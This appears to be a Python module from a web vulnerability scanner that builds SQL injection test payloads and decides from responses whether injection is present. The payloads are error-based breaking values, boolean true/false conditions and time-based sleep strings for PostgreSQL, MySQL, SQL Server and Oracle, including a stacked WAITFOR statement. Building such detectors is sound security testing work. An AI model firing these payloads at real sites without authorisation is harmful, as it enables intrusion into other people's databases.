"""Payloads and pure judges of the SQL family (`injection_sql` sends, these decide).

Nothing here sends a request: the payload builders take the point's original value and the
random numbers drawn for it, and the judges take answers, so tests call them directly.

- Error-based (in `injection_sql_errors`): a breaking value (an unbalanced quote, double quote,
  bracket or backslash)
  beside its balanced twin (the same value with the character doubled or the bracket closed).
  Only an SQL syntax message counts (`syntax_errors`): one that places the broken character in
  the query's syntax (`near "'": syntax error`, `unterminated quoted string at or near`,
  `Unclosed quotation mark`, `ORA-01756`, SQLSTATE class 42), on the line of the breaking
  character or the payload's token. A driver's class name alone, a connection error
  (`SQLSTATE[08006]`) or a full-text / JSON-path parser's complaint about a bound value
  (`fts5: syntax error`, `of jsonpath input`, `in tsquery`) is no proof. The message must be
  new (absent from every baseline answer once numbers and tokens are blanked), come back for
  the repeat, and the twin must show no new database error at all.
- Boolean: pairs of a true and a false condition in one syntax (`form`), each pair with fresh
  numbers and the shapes alternating (`n=n` / `n=m`, then `n<m` / `m<n`). Every true answer
  must be the unmodified answer, every false one another answer, alike among themselves, and
  differing from the unmodified answers where all of them and every true answer held still.
- Time-based: each engine's sleep, in string and numeric forms, as builders of the requested
  seconds (`payload(0)` is the zero-delay control of the same syntax).

Payloads never write: only AND conditions (never OR, which would widen an UPDATE's WHERE) and
a CASE in an ORDER BY position; the one stacked statement is SQL Server's WAITFOR.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from probe.compare import Reference, blank_text
from probe.exchange import ResponseRecord

_WHOLE_NUMBER = re.compile(r"-?[0-9]{1,18}")
# A column name, maybe with its table: what an ORDER BY or identifier position holds.
_IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_]{0,62}(?:\.[A-Za-z_][A-Za-z0-9_]{0,62})?")


def is_number(text: str) -> bool:
    """True when the original value is a whole number (numeric payload forms apply)."""
    return _WHOLE_NUMBER.fullmatch(text) is not None


def is_identifier(text: str) -> bool:
    """True when the original value reads as a column name (`name`, `items.price`)."""
    return _IDENTIFIER.fullmatch(text) is not None


# -- boolean ------------------------------------------------------------------------------------

#: True/false pairs a form must pass, each with fresh numbers (see `injection_sql`'s bound).
PAIRS = 8
#: Before these pairs (by index), one more unmodified request re-learns the reference.
REFRESH_BEFORE = frozenset({1, 3, 5})
#: The form for a value in an ORDER BY position (compared with the rows' order).
ORDER_BY = "ORDER BY expression"

# Each form's (true, false) templates in two shapes, equality then comparison: {o} is the
# original, {n} a fresh number, {m} = n+1, {s} = original + n (numeric originals).
_FORMS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
    "numeric": (
        ("{o} AND {n}={n}", "{o} AND {n}={m}"),
        ("{o} AND {n}<{m}", "{o} AND {m}<{n}"),
    ),
    "subquery arithmetic": (
        ("(SELECT {s})-{n}", "(SELECT {s})-{m}"),
        ("{s}-(SELECT {n})", "{s}-(SELECT {m})"),
    ),
    "string": (
        ("{o}' AND '{n}'='{n}", "{o}' AND '{n}'='{m}"),
        ("{o}' AND '{n}'<'{m}", "{o}' AND '{m}'<'{n}"),
    ),
    "string with a comment": (
        ("{o}' AND {n}={n}-- {n}", "{o}' AND {n}={m}-- {n}"),
        ("{o}' AND {n}<{m}-- {n}", "{o}' AND {m}<{n}-- {n}"),
    ),
    ORDER_BY: (
        (
            "(CASE WHEN {n}={n} THEN {o} ELSE NULL END)",
            "(CASE WHEN {n}={m} THEN {o} ELSE NULL END)",
        ),
        (
            "(CASE WHEN {n}<{m} THEN {o} ELSE NULL END)",
            "(CASE WHEN {m}<{n} THEN {o} ELSE NULL END)",
        ),
    ),
}


@dataclass(frozen=True)
class Condition:
    """A true and a false condition in the same syntax.

    Attributes:
        name: The form ("numeric", "subquery arithmetic", "string", ...).
        shape: "=" (`n=n` against `n=m`) or "<" (`n<m` against `m<n`).
        true: The value whose condition holds (the query finds what the original finds).
        false: The value whose condition fails.
    """

    name: str
    shape: str
    true: str
    false: str


def forms(original: str, *, name_position: bool = False) -> list[str]:
    """The forms to try at a point: numeric ones for a whole number, then the string ones;
    the ORDER BY one first where the value looks like a name and the harmless value erred."""
    found = ["string", "string with a comment"]
    if is_number(original):
        found = ["numeric", "subquery arithmetic", *found]
    elif name_position and is_identifier(original):
        found.insert(0, ORDER_BY)
    return found


def plan(form: str, original: str, numbers: Sequence[int]) -> list[Condition]:
    """One true/false pair per number, the shapes alternating (equality first).

    Each number must be four digits with a four-digit successor, so a true and a false value
    have the same length (a length check cannot tell them apart).
    """
    shapes = _FORMS[form]
    pairs: list[Condition] = []
    for index, number in enumerate(numbers):
        true, false = shapes[index % 2]
        fill = {"o": original, "n": number, "m": number + 1}
        if is_number(original):
            fill["s"] = int(original) + number
        pairs.append(Condition(form, "=<"[index % 2], true.format(**fill), false.format(**fill)))
    return pairs


def conditions(original: str, number: int) -> list[Condition]:
    """The first pair of every form for a point (equality shape), in the order tried."""
    return [plan(form, original, [number])[0] for form in forms(original)]


def in_order(form: str) -> bool:
    """True when the form changes the rows' order rather than which rows (ORDER BY), so
    answers are compared as text, order included."""
    return form == ORDER_BY


@dataclass(frozen=True)
class BooleanVerdict:
    """Whether a true/false pair proves a condition reaches the query.

    Attributes:
        proven: The true answers repeat the baseline and the false ones differ, alike.
        reason: Why not (empty when proven).
    """

    proven: bool
    reason: str = ""


def order_of(response: ResponseRecord) -> str:
    """The answer's text with per-request values blanked, rows in their order."""
    return blank_text(response.body)


def judge_true(
    reference: Reference, answer: ResponseRecord, order: str | None = None
) -> BooleanVerdict:
    """A true condition must give the unmodified answer (with `order`: in the same order)."""
    if not reference.matches(answer):
        reason = f"the true condition got another answer (HTTP {answer.status})"
        return BooleanVerdict(False, reason)
    if order is not None and order_of(answer) != order:
        return BooleanVerdict(False, "the true condition got the rows in another order")
    return BooleanVerdict(True)


def judge_false(
    reference: Reference, answer: ResponseRecord, order: str | None = None
) -> BooleanVerdict:
    """A false condition must give an answer unlike the unmodified one (with `order`: rows
    in another order count)."""
    same = reference.matches(answer) if order is None else order_of(answer) == order
    if same:
        return BooleanVerdict(False, "the false condition got the unmodified answer too")
    return BooleanVerdict(True)


def judge_boolean(
    unmodified: Sequence[ResponseRecord],
    trues: Sequence[ResponseRecord],
    falses: Sequence[ResponseRecord],
    *,
    ordered: bool = False,
) -> BooleanVerdict:
    """The whole series: the unmodified and true answers are one answer (learnt from all of
    them, so a field that varied anywhere is left out), every false answer differs from it
    where it held still, and the false answers are one answer too (noise is not a false
    condition's)."""
    if not unmodified or not trues or len(trues) != len(falses):
        return BooleanVerdict(False, "no complete series of conditions was sent")
    held = Reference.learn(unmodified[0], *unmodified[1:], *trues)
    if not held.stable:
        return BooleanVerdict(False, "the unmodified and true answers did not hold still")
    order: str | None = None
    if ordered:
        orders = {order_of(r) for r in (*unmodified, *trues)}
        if len(orders) != 1:
            return BooleanVerdict(False, "the unmodified and true answers changed their order")
        (order,) = orders
    for answer in trues:
        verdict = judge_true(held, answer, order)
        if not verdict.proven:
            return BooleanVerdict(False, verdict.reason + " once all answers were compared")
    for answer in falses:
        if not judge_false(held, answer, order).proven:
            return BooleanVerdict(
                False,
                "the false condition's answer differs only where the unmodified or true "
                "answers varied too",
            )
    alike = Reference.learn(falses[0], *falses[1:])
    agree = alike.stable and all(alike.matches(f) for f in falses)
    if ordered:
        agree = agree and len({order_of(f) for f in falses}) == 1
    if not agree:
        return BooleanVerdict(False, "the false condition's answers differ from each other")
    return BooleanVerdict(True)


# -- time-based ---------------------------------------------------------------------------------


# Each engine's sleep as (engine, string form, numeric form): {o} is the original value, {n}
# a random number, {t} a random token, {s} the seconds (0 for the control). Every sleep runs
# once per query, not once per row: in an uncorrelated subquery (PostgreSQL, Oracle) or a
# derived table (MySQL). String forms close their own quotes; SQL Server's WAITFOR is a
# statement of its own (it waits, it writes nothing) and comments the rest of the query out.
_SLEEPS = (
    (
        "PostgreSQL",
        "{o}'||(SELECT pg_sleep({s}))||'",
        "{o} AND {n}=(SELECT {n} FROM pg_sleep({s}))",
    ),
    (
        "MySQL/MariaDB",
        "{o}' AND {n}=(SELECT {n} FROM (SELECT SLEEP({s})){t}) AND '{n}'='{n}",
        "{o} AND {n}=(SELECT {n} FROM (SELECT SLEEP({s})){t})",
    ),
    (
        "SQL Server",
        "{o}'; WAITFOR DELAY '0:0:{s}'--{t}",
        "{o}; WAITFOR DELAY '0:0:{s}'--{t}",
    ),
    (
        "Oracle",
        "{o}' AND 1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('{t}',{s}) FROM DUAL) AND '{n}'='{n}",
        "{o} AND 1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('{t}',{s}) FROM DUAL)",
    ),
)
#: Engines whose sleep is tried, in order (SQLite has no sleep function).
SLEEP_ENGINES = tuple(engine for engine, _, _ in _SLEEPS)


@dataclass(frozen=True)
class Sleeper:
    """One engine's sleep in one syntax, for one point.

    Attributes:
        engine: The database engine ("PostgreSQL").
        form: "string" or "numeric".
        template: The payload with {o}, {n}, {t} and {s} to fill in.
        original: The point's original value.
        number: A random number drawn for the point.
        token: A random token (MySQL's derived table alias, Oracle's pipe name).
    """

    engine: str
    form: str
    template: str
    original: str
    number: int
    token: str

    @property
    def label(self) -> str:
        """How a report names it: "PostgreSQL sleep, string form"."""
        return f"{self.engine} sleep, {self.form} form"

    def payload(self, seconds: int) -> str:
        """The value asking for `seconds` of sleep (0: the zero-delay control)."""
        return self.template.format(o=self.original, n=self.number, t=self.token, s=seconds)


def sleepers(original: str, token: str, number: int) -> list[Sleeper]:
    """Each engine's sleep in string form, after its numeric form for a numeric original."""
    found: list[Sleeper] = []
    for engine, string, numeric in _SLEEPS:
        if is_number(original):
            found.append(Sleeper(engine, "numeric", numeric, original, number, token))
        found.append(Sleeper(engine, "string", string, original, number, token))
    return found
